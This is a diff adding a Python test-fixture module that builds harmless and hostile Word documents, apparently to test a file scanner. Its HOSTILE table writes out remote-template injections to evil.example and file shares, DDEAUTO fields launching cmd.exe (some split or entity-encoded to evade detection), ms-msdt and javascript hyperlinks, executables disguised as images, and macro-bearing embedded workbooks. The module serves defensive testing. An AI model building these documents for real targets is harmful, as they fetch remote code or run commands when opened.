@@ -1,0 +1,264 @@
+"""Word documents, harmless and hostile: their relationships, parts and members, in two encodings of XML."""
+
+import zipfile
+from collections.abc import Mapping
+from dataclasses import dataclass, field
+from typing import Final
+
+from tests.imaging.documents import archive, content_types, ole, word
+
+W: Final = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+STRICT: Final = "http://purl.oclc.org/ooxml/wordprocessingml/main"
+KINDS: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+EXE: Final = b"MZ\x90\0\x03" + bytes(60)
+BEGIN, SEPARATE, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
+
+
+@dataclass(frozen=True)
+class Parts:
+    """What a document has: the body's XML, relationships of its parts, and further members."""
+
+    body: str = ""
+    relationships: str = ""
+    members: Mapping[str, bytes] = field(default_factory=dict)
+    settings: str = ""
+    namespace: str = W
+
+
+def deflated(parts: Parts) -> bytes:
+    """Return the document as Word writes it."""
+    return archive(_members(parts, "utf-8"))
+
+
+def utf_16(parts: Parts) -> bytes:
+    """Return it with its XML in UTF-16, and not packed."""
+    return archive(_members(parts, "utf-16"), zipfile.ZIP_STORED)
+
+
+def relationship(kind: str, target: str, mode: str = "External") -> str:
+    """Return a relationship of this kind."""
+    return f'<Relationship Id="r1" Type="{KINDS}{kind}" Target="{target}" TargetMode="{mode}"/>'
+
+
+def instruction(*pieces: str) -> str:
+    """Return a field whose instruction is in so many runs."""
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return f"<w:p>{BEGIN}{runs}{SEPARATE}<w:r><w:t>x</w:t></w:r>{END}</w:p>"
+
+
+def workbook(relationships: str = "") -> bytes:
+    """Return a workbook as charts have one."""
+    rels = f'<Relationships xmlns="urn:r">{relationships}</Relationships>'.encode()
+    return archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", "xl/_rels/a.rels": rels})
+
+
+def _members(parts: Parts, encoding: str) -> dict[str, bytes]:
+    def xml(text: str) -> bytes:
+        return f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(encoding)
+
+    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+    return {
+        "[Content_Types].xml": content_types(),
+        "word/document.xml": xml(f'<w:document xmlns:w="{parts.namespace}"><w:body>{parts.body}</w:body></w:document>'),
+        "word/settings.xml": xml(f'<w:settings xmlns:w="{parts.namespace}">{parts.settings}</w:settings>'),
+        "word/_rels/document.xml.rels": xml(rels.format(parts.relationships)),
+        **parts.members,
+    }
+
+
+FORMS: Final = {"deflated": deflated, "UTF-16": utf_16}
+
+_EXTERNAL: Final = "loads_from_elsewhere"
+_OBJECT: Final = "an OLE object or a control"
+_VML: Final = 'xmlns:v="urn:schemas-microsoft-com:vml"'
+_OFFICE: Final = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
+
+#: What is refused, by name: the parts, the reason and what is named as found.
+HOSTILE: Final[Mapping[str, tuple[Parts, str, str]]] = {
+    "a template of a server": (
+        Parts(relationships=relationship("attachedTemplate", "https://evil.example/a.dotm")),
+        _EXTERNAL,
+        "the external relationship attachedTemplate",
+    ),
+    "a template of a share": (
+        Parts(relationships=relationship("attachedTemplate", "file:///\\\\evil\\share\\a.dot")),
+        _EXTERNAL,
+        "the external relationship attachedTemplate",
+    ),
+    "a template of a share, escaped": (
+        Parts(relationships=relationship("attachedTemplate", "file://evil/share/a.dot")),
+        _EXTERNAL,
+        "the external relationship attachedTemplate",
+    ),
+    "a template with its letters as numbers": (
+        Parts(relationships=relationship("attached&#84;emplate", "&#104;ttps://evil.example/a.dotm")),
+        _EXTERNAL,
+        "the external relationship attachedTemplate",
+    ),
+    "an address that calls itself internal": (
+        Parts(relationships=relationship("attachedTemplate", "http://evil.example/a.dotm", "Internal")),
+        _EXTERNAL,
+        "the external relationship attachedTemplate",
+    ),
+    "a picture of a server": (
+        Parts(relationships=relationship("image", "https://evil.example/a.png")),
+        _EXTERNAL,
+        "the external relationship image",
+    ),
+    "a linked object": (
+        Parts(relationships=relationship("oleObject", "mhtml:https://evil.example/a.html!x")),
+        "embedded_program",
+        _OBJECT,
+    ),
+    "something of a kind that nobody knows": (
+        Parts(relationships=relationship("whatever", "https://evil.example/")),
+        _EXTERNAL,
+        "an external relationship",
+    ),
+    "a foreign document inside": (
+        Parts(relationships=relationship("aFChunk", "chunk.html", "Internal")),
+        _EXTERNAL,
+        "the relationship aFChunk",
+    ),
+    "an add-in": (
+        Parts(relationships=relationship("webextensiontaskpanes", "taskpanes.xml", "Internal")),
+        _EXTERNAL,
+        "the relationship webextensiontaskpanes",
+    ),
+    "a control": (
+        Parts(relationships=relationship("control", "activeX1.xml", "Internal")),
+        "embedded_program",
+        _OBJECT,
+    ),
+    "a hyperlink that is a script": (
+        Parts(relationships=relationship("hyperlink", "java&#9;script:alert(1)")),
+        "runs_on_opening",
+        "a hyperlink with javascript:",
+    ),
+    "a hyperlink to a program": (
+        Parts(relationships=relationship("hyperlink", "file:///C:/Windows/System32/calc.exe")),
+        "embedded_program",
+        "a file with the ending .exe",
+    ),
+    "a hyperlink to a handler": (
+        Parts(relationships=relationship("hyperlink", "ms-msdt:/id")),
+        "runs_on_opening",
+        "a hyperlink with ms-msdt:",
+    ),
+    "a field that starts a program": (
+        Parts(instruction(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe ")),
+        "runs_on_opening",
+        "the field DDEAUTO",
+    ),
+    "a field in pieces": (Parts(instruction("DD", "EAU", "TO cmd")), "runs_on_opening", "the field DDEAUTO"),
+    "a simple field": (
+        Parts('<w:p><w:fldSimple w:instr="&#68;DE cmd"/></w:p>'),
+        "runs_on_opening",
+        "the field DDE",
+    ),
+    "a strict document with a field": (
+        Parts(instruction("DDEAUTO cmd"), namespace=STRICT),
+        "runs_on_opening",
+        "the field DDEAUTO",
+    ),
+    "a field that another one names": (
+        Parts(f"<w:p>{BEGIN}{instruction('QUOTE 68 68 69')}{SEPARATE}{END}</w:p>"),
+        "runs_on_opening",
+        "a field inside of a field",
+    ),
+    "a picture by a field": (
+        Parts(instruction('INCLUDEPICTURE "https://evil.example/a.png" \\d')),
+        _EXTERNAL,
+        "the field INCLUDEPICTURE",
+    ),
+    "a text by a field": (Parts(instruction("IncludeText c:\\a.txt")), _EXTERNAL, "the field INCLUDETEXT"),
+    "a picture in VML": (
+        Parts(f'<v:shape {_VML}><v:imagedata src="https://evil.example/a.png"/></v:shape>'),
+        _EXTERNAL,
+        "a picture from elsewhere",
+    ),
+    "an object without a relationship": (
+        Parts(f'<w:object><o:OLEObject {_OFFICE} Type="Embed" ProgID="Package"/></w:object>'),
+        "embedded_program",
+        _OBJECT,
+    ),
+    "a source of data": (
+        Parts(settings='<w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge>'),
+        _EXTERNAL,
+        "the element mailMerge",
+    ),
+    "an OLE file by another name": (
+        Parts(members={"word/media/image1.png": ole({"\x01Ole10Native": b"x"})}),
+        "embedded_program",
+        "an OLE object",
+    ),
+    "a program by another name": (
+        Parts(members={"word/media/image1.png": EXE}),
+        "embedded_program",
+        "a Windows program",
+    ),
+    "a script": (Parts(members={"word/a.vbs": b"x = 1"}), "embedded_program", "a file with the ending .vbs"),
+    "a workbook with a link": (
+        Parts(
+            members={"word/embeddings/a.xlsx": workbook(relationship("externalLinkPath", "file:///\\\\evil\\a.xlsx"))}
+        ),
+        _EXTERNAL,
+        "an external relationship",
+    ),
+    "a workbook with a program": (
+        Parts(members={"word/embeddings/a.xlsx": archive({"a": EXE})}),
+        "embedded_program",
+        "a Windows program",
+    ),
+    "a workbook with macros": (
+        Parts(members={"word/embeddings/a.xlsx": archive({"xl/vbaProject.bin": b"x"})}),
+        "macros",
+        "macros or controls",
+    ),
+    "entities": (
+        Parts(members={"word/header1.xml": b'<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
+        "unreadable",
+        "a document type in XML",
+    ),
+    "broken XML": (Parts("<w:p>", settings="</w:p>"), "unreadable", "broken XML"),
+}
+
+#: What is taken, by name: the parts, and whether it has fields to fill in.
+HARMLESS: Final[Mapping[str, tuple[Parts, bool]]] = {
+    "nothing special": (Parts("<w:p><w:r><w:t>DDEAUTO is a word here</w:t></w:r></w:p>"), False),
+    "a hyperlink": (Parts(relationships=relationship("hyperlink", "https://clinic.example/a.exe?b=1")), False),
+    "a hyperlink to a message": (Parts(relationships=relationship("hyperlink", "mailto:desk@clinic.example")), False),
+    "a hyperlink to a file": (Parts(relationships=relationship("hyperlink", "file:///C:/Reports/a.docx")), False),
+    "a template of the writer's disk": (
+        Parts(relationships=relationship("attachedTemplate", "file:///C:\\Users\\Dr%20A\\Templates\\Report.dotx")),
+        False,
+    ),
+    "the usual template": (Parts(relationships=relationship("attachedTemplate", "Normal.dotm")), False),
+    "a page number": (Parts(instruction(" PAGE ") + '<w:p><w:fldSimple w:instr=" NUMPAGES "/></w:p>'), False),
+    "a hyperlink by a field": (Parts(instruction(' HYPERLINK "https://clinic.example/" ')), False),
+    "a chart with its workbook": (Parts(members={"word/embeddings/a.xlsx": workbook()}), False),
+    "a picture": (Parts(members={"word/media/image1.png": b"\x89PNG" + bytes(200)}), False),
+    "a form field": (Parts("<w:p><w:r><w:fldChar><w:ffData/></w:fldChar></w:r></w:p>"), True),
+    "a list to choose from": (Parts("<w:sdt><w:sdtPr><w:dropDownList/></w:sdtPr></w:sdt>"), True),
+    "a table of contents": (Parts("<w:sdt><w:sdtPr><w:docPartObj/></w:sdtPr></w:sdt>"), False),
+    "data of another kind": (
+        Parts(members={"customXml/item1.xml": b'<control xmlns="urn:clinic"><mailMerge/></control>'}),
+        False,
+    ),
+}
+
+
+def doc_with(text: str, *, wide: bool, streams: Mapping[str, bytes] | None = None) -> bytes:
+    """Return a DOC with this text, in two bytes a letter or in one, and further streams."""
+    encoded = text.encode("utf-16-le" if wide else "latin-1")
+    return ole({"WordDocument": word() + bytes(1024) + encoded, **(streams or {})})
+
+
+def doc_with_template(path: str) -> bytes:
+    """Return a DOC that was made with this template."""
+    texts = ["", path, *[""] * 16]
+    sttb = b"\xff\xff\x12\0\0\0" + b"".join(
+        len(text).to_bytes(2, "little") + text.encode("utf-16-le") for text in texts
+    )
+    stream = word(0x0200).ljust(0x019A, b"\0") + (8).to_bytes(4, "little") + len(sttb).to_bytes(4, "little")
+    return ole({"WordDocument": stream, "1Table": bytes(8) + sttb})
